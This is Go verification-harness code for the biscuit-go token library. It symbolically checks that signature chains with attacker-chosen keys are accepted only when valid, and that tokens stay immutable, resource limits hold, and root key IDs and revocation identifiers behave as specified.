			sigPool = append(sigPool, vSig(s, payload))
		}
		sigPool = append(sigPool, vWide("anysig", 64))
		ss := vInt("sig-sel")
		vAssume(vAnd(ss >= 0, ss < len(sigPool)))
		sig[i] = selBytes(ss, sigPool)
	}
	// proof
	proofKind := vChoose("proof", 3)
	var proof *pb.Proof
	var secret, final []byte
	badSecretLen := false
	lastPayload := cat(blk[m], le32(alg[m]), key[m], sig[m])
	switch proofKind {
	case 0:
		pool := append([][]byte{}, secrets...)
		pool = append(pool, vWide("anysecret", 32))
		s := vInt("secret-sel")
		vAssume(vAnd(s >= 0, s < len(pool)))
		secret = selBytes(s, pool)
		// a next secret is a 32-byte seed; anything of another length (for instance a 64-byte
		// expanded key seed||public) is not a proof of knowledge and must be rejected
		if k := vChoose("secret-len", 5); k != 0 {
			n := [...]int{32, 64, 33, 0, 64}[k]
			secret = vBytes("oddsecret", n)
			if k == 4 {
				// what anybody can assemble: 32 bytes of their choice followed by the last announced public key
				// (the layout of an expanded private key)
				secret = cat(vWide("oddseed", 32), key[m])
			}
			badSecretLen = true
			vLabel("next secret of length != 32")
		} else {
			vLabel("proof=next secret")
		}
		proof = &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: secret}}
	case 1:
		pool := [][]byte{sealed.container.Proof.GetFinalSignature()}
		for _, s := range secrets {
			pool = append(pool, vSig(s, lastPayload))
		}
		pool = append(pool, vWide("anyfinal", 64))
		s := vInt("final-sel")
		vAssume(vAnd(s >= 0, s < len(pool)))
		final = selBytes(s, pool)
		proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: final}}
		vLabel("proof=seal signature")
	default:
		proof = &pb.Proof{}
		vLabel("proof=absent")
	}
	// verifier key: honest root, attacker, or any key
	K := selBytes(vChoose("verify-key", 3), [][]byte{w.rootPub, vPub(attackerSeed), vWide("anyroot", 32)})

	// ---- the specification
	spec := true
	cur := K
	for i := 0; i <= m; i++ {
		spec = vAnd(spec, alg[i] == 0)
		spec = vAnd(spec, vVerify(cur, cat(blk[i], le32(alg[i]), key[i]), sig[i]))
		cur = key[i]
	}
	switch proofKind {
	case 0:
		if badSecretLen {
			spec = false
		} else {
			spec = vAnd(spec, vBytesEq(vPub(secret), cur))
		}
	case 1:
		spec = vAnd(spec, vVerify(cur, lastPayload, final))
	default:
		spec = false
	}

	// ---- the implementation, through the wire
	mk := func(i int) *pb.SignedBlock {
		a := pb.PublicKey_Algorithm(alg[i])
		return &pb.SignedBlock{Block: blk[i], NextKey: &pb.PublicKey{Algorithm: &a, Key: key[i]}, Signature: sig[i]}
	}
	c := &pb.Biscuit{Authority: mk(0), Proof: proof}
	for i := 1; i <= m; i++ {
		c.Blocks = append(c.Blocks, mk(i))
	}
	data, merr := proto.Marshal(c)
	vAssert(merr == nil, "C01.marshal")
	if merr != nil {
		return
	}
	tok, uerr := Unmarshal(data)
	if uerr != nil {
		// a token refused when it is decoded is a token that is not accepted: that is right exactly when the
		// chain condition does not hold (a block moved to another position may, for instance, use symbols
		// that its new predecessors do not declare)
		vCover("unmarshal-error")
		if errors.Is(uerr, ErrMissingSymbols) {
			// the property speaks of well-formed tokens: a block whose content uses symbols that neither it nor
			// its predecessors declare (an honest block signed again at another position, by whoever holds the
			// key for that position) is not one. Honest tokens are never refused this way: VerifC01Honest, C07.
			vCover("content-not-well-formed")
			return
		}
		vAssert(vNot(spec), "C01.accept-iff-chain")
		return
	}
	a, err := tok.AuthorizerFor(WithSingularRootPublicKey(K))
	accepted := err == nil
	vObserve("accepted", accepted)
	if accepted {
		vCover("accepted")
		vAssert(a != nil, "C01.accepted-has-authorizer")
	} else {
		vCover("rejected")
		vAssert(a == nil, "C01.rejected-before-evaluation")
	}
	vAssert(accepted == spec, "C01.accept-iff-chain")
	// the deprecated entry point must agree
	_, err2 := tok.Authorizer(K)
	vAssert((err2 == nil) == accepted, "C01.entry-points-agree")
}

// VerifC01Honest: everything the library produces verifies under the matching root key, and only it.
func VerifC01Honest() {
	vForbidPanic("C01")
	N := vParam("blocks")
	w := chainBuild(N, nil)
	otherPub := vPub(vWide("other", 32))
	vAssume(vNot(vBytesEq(otherPub, w.rootPub)))
	for j := 0; j <= N; j++ {
		t := w.tokens[j]
		_, err := t.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
		vAssert(err == nil, "C01.honest-accepted")
		_, err = t.AuthorizerFor(WithSingularRootPublicKey(otherPub))
		vAssert(err != nil, "C01.honest-wrong-root-rejected")
		data, serr := t.Serialize()
		vAssert(serr == nil, "C01.honest-serialize")
		if serr == nil {
			t2, uerr := Unmarshal(data)
			vAssert(uerr == nil, "C01.honest-unmarshal")
			if uerr == nil {
				_, err = t2.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
				vAssert(err == nil, "C01.honest-reloaded-accepted")
				vAssert(t2.BlockCount() == j, "C01.honest-reloaded-blockcount")
			}
		}
		s, err := t.Seal(w.rng)
		vAssert(err == nil, "C01.honest-seal")
		if err == nil {
			_, err = s.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
			vAssert(err == nil, "C01.honest-sealed-accepted")
			_, err = s.AuthorizerFor(WithSingularRootPublicKey(otherPub))
			vAssert(err != nil, "C01.honest-sealed-wrong-root-rejected")
		}
	}
	// forks: two attenuations of the same prefix are both genuine tokens, fresh, reloaded and sealed
	for j := 0; j <= N; j++ {
		parent := w.tokens[j]
		var kids []*Biscuit
		for k := 0; k < 2; k++ {
			bb := parent.CreateBlock()
			bb.AddFact(Fact{Predicate{Name: "kid", IDs: []Term{Integer(k)}}})
			kid, err := parent.Append(w.rng, bb.Build())
			vAssert(err == nil, "C01.fork-append")
			if err == nil {
				kids = append(kids, kid)
			}
		}
		for _, kid := range kids {
			_, err := kid.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
			vAssert(err == nil, "C01.fork-accepted")
			if data, serr := kid.Serialize(); serr == nil {
				if r, uerr := Unmarshal(data); uerr == nil {
					_, err = r.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
					vAssert(err == nil, "C01.fork-reloaded-accepted")
				} else {
					vAssert(false, "C01.fork-unmarshal")
				}
			}
			if s, serr := kid.Seal(w.rng); serr == nil {
				_, err = s.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
				vAssert(err == nil, "C01.fork-sealed-accepted")
			}
		}
	}
	vCover("done")
}

var _ = errors.New

func ed25519Key(seed []byte) ed25519.PrivateKey { return ed25519.NewKeyFromSeed(seed) }
