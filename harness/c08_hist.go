package biscuit

// C08 — tokens and blocks are immutable values; sibling derivations are independent.
// Two scripts of operations run against one parent token in every interleaving; after every step
// the observable content of every live token and built block must equal what it was at creation.

import "github.com/biscuit-auth/biscuit-go/v2/datalog"

type c08Snap struct {
	tok     *Biscuit
	blocks  [][]Fact // facts per block, resolved to text through the token's own symbol table
	symbols []string
	ser     []byte
	ids     [][]byte
	what    string
}

func c08Facts(t *Biscuit) ([][]Fact, bool) {
	var out [][]Fact
	all := append([]*Block{t.authority}, t.blocks...)
	for _, b := range all {
		var fs []Fact
		for _, f := range *b.facts {
			bf, err := fromDatalogFact(t.symbols, f)
			if err != nil {
				return nil, false
			}
			fs = append(fs, *bf)
		}
		out = append(out, fs)
	}
	return out, true
}

func c08Take(t *Biscuit, what string) *c08Snap {
	s := &c08Snap{tok: t, what: what}
	s.blocks, _ = c08Facts(t)
	s.symbols = append([]string{}, (*t.symbols)...)
	s.ser, _ = t.Serialize()
	s.ids = t.RevocationIds()
	return s
}

func (s *c08Snap) same() bool {
	now, ok := c08Facts(s.tok)
	if !ok || len(now) != len(s.blocks) {
		return false
	}
	r := true
	for i := range now {
		if len(now[i]) != len(s.blocks[i]) {
			return false
		}
		for j := range now[i] {
			r = vAnd(r, gFactEq(now[i][j], s.blocks[i][j]))
		}
	}
	if len(*s.tok.symbols) != len(s.symbols) {
		return false
	}
	for i, x := range *s.tok.symbols {
		r = vAnd(r, vStrEq(x, s.symbols[i]))
	}
	ser, err := s.tok.Serialize()
	if err != nil || len(ser) != len(s.ser) {
		return false
	}
	r = vAnd(r, vBytesEq(ser, s.ser))
	ids := s.tok.RevocationIds()
	if len(ids) != len(s.ids) {
		return false
	}
	for i := range ids {
		r = vAnd(r, vBytesEq(ids[i], s.ids[i]))
	}
	return r
}

type c08Script struct {
	kind   int // 0 derive, 1 seal, 2 reload, 3 getblockid, 4 authorize, 5 print+code
	step   int
	name   string // fact name used by a deriving script
	bb     BlockBuilder
	blk    *Block
	blkSym []string
	result *Biscuit
}

func (sc *c08Script) steps() int {
	if sc.kind == 0 {
		return 4
	}
	return 1
}

var c08KindNames = [...]string{"derive", "seal", "reload", "getblockid", "authorize", "print"}

func VerifC08Siblings() {
	vForbidPanic("C08")
	vTimerMode(0)
	rng := &chainRNG{}
	// the parent's symbol count decides how much spare capacity its symbol table has
	var authority gBlock
	na := 1 + vChoose("auth-facts", 3)
	for i := 0; i < na; i++ {
		authority.facts = append(authority.facts, gAtom{name: [...]string{"p", "q", "r"}[i], c: int64(i)})
	}
	var blocks []gBlock
	if nb := vChoose("parent-block-facts", 3); nb > 0 {
		var blk gBlock
		for i := 0; i < nb; i++ {
			blk.facts = append(blk.facts, gAtom{name: [...]string{"u", "w"}[i], c: int64(10 + i)})
		}
		blocks = []gBlock{blk}
	}
	g := gBuildToken(authority, blocks)
	rng = g.rng
	parent := g.tok
	if vChoose("parent-reloaded", 2) == 1 {
		parent = c16Reload(parent)
		vLabel("parent reloaded from bytes")
	}
	snaps := []*c08Snap{c08Take(parent, "parent")}
	a := &c08Script{kind: 0, name: gNameFree("a.name")}
	b := &c08Script{kind: vChoose("b-kind", 6), name: gNameFree("b.name")}
	vLabel("second script=" + c08KindNames[b.kind])
	scripts := []*c08Script{a, b}

	checkAll := func(after string) {
		for _, s := range snaps {
			vAssert(s.same(), "C08.unchanged."+s.what)
		}
		for _, sc := range scripts {
			if sc.blk != nil {
				// a built block keeps exactly the symbols and the fact its builder was given
				ok := len(*sc.blk.symbols) == len(sc.blkSym) && len(*sc.blk.facts) == 1 && len(sc.blk.checks) == 0 && len(sc.blk.rules) == 0 && sc.blk.context == ""
				if ok {
					r := true
					for i, x := range *sc.blk.symbols {
						r = vAnd(r, vStrEq(x, sc.blkSym[i]))
					}
					vAssert(r, "C08.block-unchanged")
				} else {
					vAssert(false, "C08.block-unchanged")
				}
			}
		}
	}

	for a.step < a.steps() || b.step < b.steps() {
		var sc *c08Script
		switch {
		case a.step >= a.steps():
			sc = b
		case b.step >= b.steps():
			sc = a
		default:
			sc = scripts[vChoose("next", 2)]
		}
		switch sc.kind {
		case 0:
			switch sc.step {
			case 0:
				sc.bb = parent.CreateBlock()
			case 1:
				sc.bb.AddFact(Fact{Predicate{Name: sc.name, IDs: []Term{Integer(7)}}})
			case 2:
				sc.blk = sc.bb.Build()
				sc.blkSym = append([]string{}, (*sc.blk.symbols)...)
			default:
				// the builder keeps being used after Build: the block already built must not change
				sc.bb.AddFact(Fact{Predicate{Name: "late", IDs: []Term{Integer(8)}}})
				sc.bb.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "late", IDs: []Term{Variable("v")}}}}}})
				sc.bb.SetContext("changed")
				t, err := parent.Append(rng, sc.blk)
				if err != nil {
					// symbol overlap between the block and the token is a legitimate refusal
					vCover("append-refused")
				} else {
					sc.result = t
					snaps = append(snaps, c08Take(t, "child"))
					// the child contains exactly what its own caller put in
					fs, ok := c08Facts(t)
					vAssert(ok, "C08.child-readable")
					if ok {
						last := fs[len(fs)-1]
						vAssert(len(last) == 1, "C08.child-content")
						if len(last) == 1 {
							vAssert(gFactEq(last[0], Fact{Predicate{Name: sc.name, IDs: []Term{Integer(7)}}}), "C08.child-content")
						}
					}
				}
			}
		case 1:
			if s, err := parent.Seal(rng); err == nil {
				snaps = append(snaps, c08Take(s, "sealed"))
			}
		case 2:
			snaps = append(snaps, c08Take(c16Reload(parent), "reloaded"))
		case 3:
			if vChoose("lookup", 2) == 0 {
				// a fact that is not there: its name may be one the token knows, its string is new to the token
				parent.GetBlockID(Fact{Predicate{Name: sc.name, IDs: []Term{Integer(7), String("zz-unseen"), Set{String("zz-unseen-2")}}}})
			} else {
				// a fact that is there
				parent.GetBlockID(Fact{Predicate{Name: "p", IDs: []Term{Integer(0)}}})
			}
		case 4:
			if az, err := NewVerifier(parent, gPatient); err == nil {
				if vChoose("authorizer-content", 2) == 0 {
					az.AddFact(Fact{Predicate{Name: sc.name, IDs: []Term{Integer(9), String("zz-authorizer-only")}}})
				} else {
					// no fact or rule of its own: only a check and a policy, both with strings the token has never seen
					az.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: sc.name, IDs: []Term{String("zz-check-only")}}}}}})
					az.AddPolicy(Policy{Kind: PolicyKindDeny, Queries: []Rule{{Head: Predicate{Name: "deny"}, Body: []Predicate{{Name: "zz-revoked", IDs: []Term{String("zz-policy-only")}}}}}})
				}
				az.AddPolicy(DefaultAllowPolicy)
				az.Authorize()
			}
		default:
			_ = parent.String()
			_ = parent.Code()
		}
		sc.step++
		checkAll("step")
	}
	vCover("done")
	if a.result != nil && b.result != nil {
		vCover("two-children")
	}
}

// gNameFree: a symbolic one-byte name (never a default symbol: those are longer).
func gNameFree(tag string) string { return vString(tag, 1) }

var _ = datalog.OFFSET

// VerifC08Envelope: sibling attenuations of a parent with 0..4 blocks. The envelope (signed blocks,
// proof) of each child must stay exactly what it was when the child was created, whatever is later
// derived from the same parent: serialized form, revocation ids and verifiability after a reload.
func VerifC08Envelope() {
	vForbidPanic("C08")
	vTimerMode(0)
	nb := vChoose("parent-blocks", vParam("maxblocks")+1)
	var blocks []gBlock
	for i := 0; i < nb; i++ {
		blocks = append(blocks, gBlock{facts: []gAtom{{name: "u", c: int64(i)}}})
	}
	g := gBuildToken(gBlock{facts: []gAtom{{name: "p", c: 0}}}, blocks)
	parent := g.tok
	if vChoose("parent-reloaded", 2) == 1 {
		parent = c16Reload(parent)
		vLabel("parent reloaded from bytes")
	}
	snaps := []*c08Snap{c08Take(parent, "parent")}
	derive := func(k int) *Biscuit {
		switch vChoose("derivation", 2) {
		case 0:
			bb := parent.CreateBlock()
			bb.AddFact(Fact{Predicate{Name: "child", IDs: []Term{Integer(k)}}})
			t, err := parent.Append(g.rng, bb.Build())
			if err != nil {
				return nil
			}
			return t
		default:
			s, err := parent.Seal(g.rng)
			if err != nil {
				return nil
			}
			return s
		}
	}
	for k := 0; k < 2; k++ {
		c := derive(k)
		if c == nil {
			continue
		}
		snaps = append(snaps, c08Take(c, "child"))
		for _, s := range snaps {
			vAssert(s.same(), "C08.envelope-unchanged."+s.what)
		}
	}
	// every token still verifies after a trip through bytes
	for _, s := range snaps {
		r := c16Reload(s.tok)
		_, err := r.AuthorizerFor(WithSingularRootPublicKey(g.rootPub))
		vAssert(err == nil, "C08.still-verifies."+s.what)
	}
	vCover("done")
}

// c08BlockHas: block i of the token (0 = authority), resolved through the token's own symbols, holds
// exactly the expected facts in order.
func c08BlockHas(t *Biscuit, i int, want []Fact) bool {
	all, ok := c08Facts(t)
	if !ok || i >= len(all) || len(all[i]) != len(want) {
		return false
	}
	r := true
	for j := range want {
		r = vAnd(r, gFactEq(all[i][j], want[j]))
	}
	return r
}

// VerifC08BuilderReuse: a builder that is used again after Build -- filled further, built a second time,
// or whose block is appended after a sibling's -- never changes what was built before, and whatever it
// builds without reporting an error contains exactly what its caller put in (in memory and on the wire).
func VerifC08BuilderReuse() {
	vForbidPanic("C08")
	vTimerMode(0)
	rng := &chainRNG{}
	root := ed25519Key(vWide("root", 32))
	f1 := Fact{Predicate{Name: gNameFree("first.name"), IDs: []Term{String("x1"), Integer(vInt64("first.c"))}}}
	f2 := Fact{Predicate{Name: gNameFree("second.name"), IDs: []Term{String("x2"), Integer(vInt64("second.c"))}}}
	variant := vChoose("reuse", 4)
	vLabel([...]string{"build twice", "build, add, build", "sibling blocks appended in sequence", "block built for a sibling of equal table length"}[variant])
	if variant == 3 {
		// two siblings of one parent whose symbol tables have the same length but not the same content; a
		// block made by a builder of the first is appended to the second
		pb0 := NewBuilder(root, WithRNG(rng))
		pb0.AddAuthorityFact(Fact{Predicate{Name: "owner", IDs: []Term{String("file1")}}})
		parent, err := pb0.Build()
		vAssert(err == nil, "C08.reuse.build")
		if err != nil {
			return
		}
		mk := func(who string) *Biscuit {
			bb := parent.CreateBlock()
			bb.AddFact(Fact{Predicate{Name: "owner", IDs: []Term{String(who)}}})
			t, e := parent.Append(rng, bb.Build())
			vAssert(e == nil, "C08.reuse.append")
			if e != nil {
				vAssume(false)
			}
			return t
		}
		sibA, sibB := mk("alice"), mk("bob")
		sA, sB := c08Take(sibA, "sibling-a"), c08Take(sibB, "sibling-b")
		// the block refers to a string of sibling A's table and brings a new one (or not)
		bb := sibA.CreateBlock()
		want := []Fact{{Predicate{Name: "member", IDs: []Term{String("alice")}}}}
		if vChoose("new-symbol", 2) == 1 {
			want = []Fact{{Predicate{Name: "owner", IDs: []Term{String("alice")}}}}
			vLabel("block without symbols of its own")
		}
		vAssert(bb.AddFact(want[0]) == nil, "C08.reuse.add")
		t, e := sibB.Append(rng, bb.Build())
		vCover("reused")
		vAssert(sA.same(), "C08.reuse.unchanged-sibling-a")
		vAssert(sB.same(), "C08.reuse.unchanged-sibling-b")
		if e != nil {
			vCover("refused")
			return
		}
		vAssert(c08BlockHas(t, 2, want), "C08.reuse.foreign-block-content")
		vAssert(c08BlockHas(c16Reload(t), 2, want), "C08.reuse.foreign-block-content-on-wire")
		return
	}
	if vChoose("builder", 2) == 0 && variant < 2 {
		vLabel("token builder")
		b := NewBuilder(root, WithRNG(rng))
		vAssert(b.AddAuthorityFact(f1) == nil, "C08.reuse.add")
		tok1, err := b.Build()
		vAssert(err == nil, "C08.reuse.build")
		if err != nil {
			return
		}
		vAssert(c08BlockHas(tok1, 0, []Fact{f1}), "C08.reuse.first-content")
		snap := c08Take(tok1, "first-built-token")
		want := []Fact{f1}
		if variant == 1 {
			// the two facts differ in their string: the second is new, whatever the names
			if b.AddAuthorityFact(f2) == nil {
				want = append(want, f2)
			} else {
				vCover("refused")
			}
			vAssert(snap.same(), "C08.reuse.unchanged-by-add")
		}
		tok2, err2 := b.Build()
		vAssert(snap.same(), "C08.reuse.unchanged-by-build")
		vCover("reused")
		if err2 != nil {
			vCover("refused")
			return
		}
		vAssert(c08BlockHas(tok2, 0, want), "C08.reuse.second-content")
		vAssert(c08BlockHas(c16Reload(tok2), 0, want), "C08.reuse.second-content-on-wire")
		vAssert(c08BlockHas(c16Reload(tok1), 0, []Fact{f1}), "C08.reuse.first-content-on-wire")
		return
	}
	vLabel("block builder")
	// a parent whose table already holds fresh symbols
	pb := NewBuilder(root, WithRNG(rng))
	pf := Fact{Predicate{Name: "owner", IDs: []Term{String("file1"), String("file2")}}}
	pb.AddAuthorityFact(pf)
	parent, err := pb.Build()
	vAssert(err == nil, "C08.reuse.build")
	if err != nil {
		return
	}
	psnap := c08Take(parent, "parent")
	if variant == 2 {
		// two builders taken from the same parent; the second block is appended to the first child
		bbA, bbB := parent.CreateBlock(), parent.CreateBlock()
		vAssert(bbA.AddFact(f1) == nil && bbB.AddFact(f2) == nil, "C08.reuse.add")
		t1, e1 := parent.Append(rng, bbA.Build())
		vAssert(e1 == nil, "C08.reuse.append")
		if e1 != nil {
			return
		}
		s1 := c08Take(t1, "first-child")
		t2, e2 := t1.Append(rng, bbB.Build())
		vCover("reused")
		vAssert(psnap.same(), "C08.reuse.unchanged-parent")
		vAssert(s1.same(), "C08.reuse.unchanged-first-child")
		if e2 != nil {
			vCover("refused")
			return
		}
		vAssert(c08BlockHas(t2, 1, []Fact{f1}), "C08.reuse.chained-first-block")
		vAssert(c08BlockHas(t2, 2, []Fact{f2}), "C08.reuse.chained-second-block")
		vAssert(c08BlockHas(c16Reload(t2), 2, []Fact{f2}), "C08.reuse.chained-second-block-on-wire")
		return
	}
	bb := parent.CreateBlock()
	vAssert(bb.AddFact(f1) == nil, "C08.reuse.add")
	blk1 := bb.Build()
	want := []Fact{f1}
	if variant == 1 {
		if bb.AddFact(f2) == nil {
			want = append(want, f2)
		} else {
			vCover("refused")
		}
	}
	blk2 := bb.Build()
	vCover("reused")
	c1, e1 := parent.Append(rng, blk1)
	c2, e2 := parent.Append(rng, blk2)
	vAssert(e1 == nil, "C08.reuse.append")
	vAssert(psnap.same(), "C08.reuse.unchanged-parent")
	if e1 == nil {
		vAssert(c08BlockHas(c1, 1, []Fact{f1}), "C08.reuse.first-content")
		vAssert(c08BlockHas(c16Reload(c1), 1, []Fact{f1}), "C08.reuse.first-content-on-wire")
	}
	if e2 != nil {
		vCover("refused")
		return
	}
	vAssert(c08BlockHas(c2, 1, want), "C08.reuse.second-content")
	vAssert(c08BlockHas(c16Reload(c2), 1, want), "C08.reuse.second-content-on-wire")
}
