package biscuit

// C11 (authorizer half) — limits supplied when creating an authorizer are honoured by every entry
// point that accepts them, and authorization fails whenever a limit is hit.

import (
	"errors"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

func VerifC11AuthorizerLimits() {
	vForbidPanic("C11")
	vForbidStranded("C11")
	vTimerMode(0)
	// a token whose authority holds nAuth distinct facts and whose block holds nBlk more
	nAuth := 1 + vChoose("authority-facts", 3)
	var authority gBlock
	for i := 0; i < nAuth; i++ {
		authority.facts = append(authority.facts, gAtom{name: "p", c: int64(i)})
	}
	// the block adds 1..3 facts: with two or more there are limits that the authority world respects
	// and only the block world exceeds
	nBlk := 1 + vChoose("block-facts", 3)
	var blk gBlock
	for i := 0; i < nBlk; i++ {
		blk.facts = append(blk.facts, gAtom{name: "q", c: int64(100 + i)})
	}
	// optionally the block carries a chain of two rules: its world then needs three iterations where the
	// authority world needs one, and ends with three times the block's facts
	chain := vChoose("block-rules", 2) == 1
	if chain {
		blk.rules = []gRule{
			{head: gAtom{name: "q1", isVar: true}, body: []gAtom{{name: "q", isVar: true}}},
			{head: gAtom{name: "q2", isVar: true}, body: []gAtom{{name: "q1", isVar: true}}},
		}
	}
	blocks := []gBlock{blk}
	g := gBuildToken(authority, blocks)
	maxFacts := vInt("maxFacts")
	vAssume(vAnd(maxFacts >= -2, maxFacts <= 50)) // zero and negative limits included
	maxIter := vInt("maxIterations")
	vAssume(vAnd(maxIter >= -2, maxIter <= 50))
	// the limits are supplied in one option or spread over two: every one of them counts
	opts := []AuthorizerOption{WithWorldOptions(datalog.WithMaxFacts(maxFacts), datalog.WithMaxIterations(maxIter), datalog.WithMaxDuration(30*time.Second))}
	if vChoose("options", 2) == 1 {
		vLabel("limits spread over two options")
		opts = []AuthorizerOption{WithWorldOptions(datalog.WithMaxFacts(maxFacts)), WithWorldOptions(datalog.WithMaxIterations(maxIter), datalog.WithMaxDuration(30*time.Second))}
	}
	var a Authorizer
	var err error
	if vChoose("entry-point", 2) == 0 {
		vLabel("entry point AuthorizerFor")
		a, err = g.tok.AuthorizerFor(WithSingularRootPublicKey(g.rootPub), opts...)
	} else {
		vLabel("entry point Authorizer")
		a, err = g.tok.Authorizer(g.rootPub, opts...)
	}
	vAssert(err == nil, "C11.authorizer-created")
	if err != nil {
		return
	}
	a.AddPolicy(DefaultAllowPolicy)
	if vChoose("via", 2) == 1 {
		// limits also bind evaluations started by Query: k facts added by the caller, no token content yet
		vLabel("via Query")
		k := 1 + vChoose("query-facts", 3)
		for i := 0; i < k; i++ {
			a.AddFact(Fact{Predicate{Name: "z", IDs: []Term{Integer(i)}}})
		}
		_, qerr := a.Query(Rule{Head: Predicate{Name: "out", IDs: []Term{Variable("v")}}, Body: []Predicate{{Name: "z", IDs: []Term{Variable("v")}}}})
		vCover("queried")
		vAssert(vImplies(k > maxFacts, qerr != nil), "C11.query-fact-limit-honoured")
		vAssert(vImplies(maxIter < 1, qerr != nil), "C11.query-iteration-limit-honoured")
		vAssert(vImplies(qerr == nil, vAnd(k <= maxFacts, maxIter >= 1)), "C11.query-success-within-limits")
		if qerr != nil {
			vAssert(vOr(errors.Is(qerr, datalog.ErrWorldRunLimitMaxFacts), errors.Is(qerr, datalog.ErrWorldRunLimitMaxIterations)), "C11.query-limit-sentinel")
		}
		return
	}
	aerr := a.Authorize()
	vCover("authorized")
	// the authority world ends with nAuth facts, the block world with nAuth+nBlk, no rules: one iteration each
	authorityTooBig := nAuth >= maxFacts // the implementation refuses at >= (stricter than >: accepted)
	strictlyTooBig := nAuth+nBlk > maxFacts
	noIterations := maxIter < 1
	if chain {
		strictlyTooBig = nAuth+3*nBlk > maxFacts
		noIterations = maxIter < 3
	}
	vAssert(vImplies(strictlyTooBig, aerr != nil), "C11.fact-limit-honoured")
	vAssert(vImplies(noIterations, aerr != nil), "C11.iteration-limit-honoured")
	if aerr != nil {
		vCover("refused")
		isFacts := errors.Is(aerr, datalog.ErrWorldRunLimitMaxFacts)
		isIter := errors.Is(aerr, datalog.ErrWorldRunLimitMaxIterations)
		vAssert(vImplies(vAnd(strictlyTooBig, vNot(noIterations)), isFacts), "C11.fact-limit-sentinel")
		vAssert(vImplies(vAnd(noIterations, vNot(authorityTooBig)), vOr(isIter, isFacts)), "C11.iteration-limit-sentinel")
	} else {
		vCover("allowed")
		vAssert(vAnd(vNot(strictlyTooBig), vNot(noIterations)), "C11.success-within-limits")
	}
}
