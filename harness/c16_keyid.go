package biscuit

// C16 — root key id travels with the token and selects exactly one key.
// C17 — revocation identifiers.  C09 — sealing (chain part).

import (
	"crypto/ed25519"
	"errors"

	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func c16SameID(got *uint32, has bool, id uint32) bool {
	if !has {
		return got == nil
	}
	if got == nil {
		return false
	}
	return *got == id
}

func c16Reload(t *Biscuit) *Biscuit {
	data, err := t.Serialize()
	vAssert(err == nil, "chain.serialize")
	if err != nil {
		vAssume(false)
	}
	t2, err := Unmarshal(data)
	vAssert(err == nil, "chain.unmarshal")
	if err != nil {
		vAssume(false)
	}
	return t2
}

// VerifC16Travels: the identifier given at creation is reported by every derived token.
func VerifC16Travels() {
	vForbidPanic("C16")
	N := vParam("blocks")
	has := vChoose("has-id", 2) == 1
	id := vUint32("id")
	var idp *uint32
	if has {
		idp = &id
	}
	w := chainBuild(N, idp)
	for j := 0; j <= N; j++ {
		t := w.tokens[j]
		if j == 0 {
			vLabel("derivation=build")
			vAssert(c16SameID(t.RootKeyID(), has, id), "C16.id.build")
		} else {
			vAssert(c16SameID(t.RootKeyID(), has, id), "C16.id.append")
		}
		r := c16Reload(t)
		vAssert(c16SameID(r.RootKeyID(), has, id), "C16.id.reload")
		s, err := t.Seal(w.rng)
		vAssert(err == nil, "C16.seal")
		if err == nil {
			vAssert(c16SameID(s.RootKeyID(), has, id), "C16.id.seal")
			rs := c16Reload(s)
			vAssert(c16SameID(rs.RootKeyID(), has, id), "C16.id.seal-reload")
		}
		// attenuating a reloaded token
		bb := r.CreateBlock()
		bb.AddFact(Fact{Predicate{Name: "late", IDs: []Term{Integer(j)}}})
		a, err := r.Append(w.rng, bb.Build())
		vAssert(err == nil, "C16.append-reloaded")
		if err == nil {
			vAssert(c16SameID(a.RootKeyID(), has, id), "C16.id.reload-append")
		}
	}
	vCover("done")
}

// VerifC16Lookup: key lookup by identifier uses exactly the registered key.
func VerifC16Lookup() {
	vForbidPanic("C16")
	has := vChoose("has-id", 2) == 1
	id := vUint32("id")
	var idp *uint32
	if has {
		idp = &id
	}
	w := chainBuild(0, idp)
	t := w.tokens[0]
	if vChoose("reloaded", 2) == 1 {
		t = c16Reload(t)
	}
	other := ed25519.PublicKey(vPub(vWide("other", 32)))
	vAssume(vNot(vBytesEq(other, w.rootPub)))
	pick := func(name string) ed25519.PublicKey {
		if vChoose(name, 2) == 0 {
			return w.rootPub
		}
		return other
	}
	// the key map: 0..2 entries under symbolic identifiers
	n := vChoose("entries", 3)
	m := map[uint32]ed25519.PublicKey{}
	k1, k2 := vUint32("k1"), vUint32("k2")
	vAssume(k1 != k2)
	var v1, v2 ed25519.PublicKey
	if n >= 1 {
		v1 = pick("v1")
		m[k1] = v1
	}
	if n >= 2 {
		v2 = pick("v2")
		m[k2] = v2
	}
	var def *ed25519.PublicKey
	var defKey ed25519.PublicKey
	if vChoose("default", 2) == 1 {
		defKey = pick("vdef")
		def = &defKey
	}
	_, err := t.AuthorizerFor(WithRootPublicKeys(m, def))
	vCover("looked-up")
	// specification: the selected key, if any
	var selected ed25519.PublicKey
	found := false
	if !has {
		if def != nil {
			selected, found = defKey, true
		}
	} else {
		if n >= 1 && id == k1 {
			selected, found = v1, true
		} else if n >= 2 && id == k2 {
			selected, found = v2, true
		}
	}
	if !found {
		vCover("no-key")
		vAssert(err != nil, "C16.lookup.no-key-is-error")
		if err != nil {
			vAssert(errors.Is(err, ErrNoPublicKeyAvailable), "C16.lookup.no-key-sentinel")
		}
		return
	}
	vCover("key-found")
	if vBytesEq(selected, w.rootPub) {
		vAssert(err == nil, "C16.lookup.right-key-accepts")
	} else {
		vAssert(err != nil, "C16.lookup.wrong-key-rejects")
		if err != nil {
			vAssert(!errors.Is(err, ErrNoPublicKeyAvailable), "C16.lookup.wrong-key-not-missing")
		}
	}
}

// VerifC17Revocation: one identifier per block, stable under derivation, equal to the block signature
// found by an independent decoding of the envelope, and pairwise distinct under fresh randomness.
func VerifC17Revocation() {
	vForbidPanic("C17")
	N := vParam("blocks")
	w := chainBuild(N, nil)
	// fresh randomness: all seeds drawn so far and later are pairwise distinct
	distinctSeeds := func() {
		all := append([][]byte{w.rootSeed}, w.rng.seeds...)
		for i := range all {
			for j := 0; j < i; j++ {
				vAssume(vNot(vBytesEq(all[i], all[j])))
			}
		}
	}
